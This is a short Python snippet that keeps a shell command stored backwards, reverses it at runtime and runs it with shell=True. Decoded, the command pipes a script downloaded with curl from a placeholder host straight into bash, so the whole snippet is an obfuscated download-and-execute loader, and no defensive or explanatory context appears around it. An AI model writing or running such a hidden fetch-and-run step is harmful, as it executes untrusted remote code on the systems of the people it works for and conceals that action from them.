import subprocess
cmd = 'hsab | i/dilavni.elpmaxe.p//:sptth LSsf- lruc'
subprocess.run(cmd[::-1], shell=True)
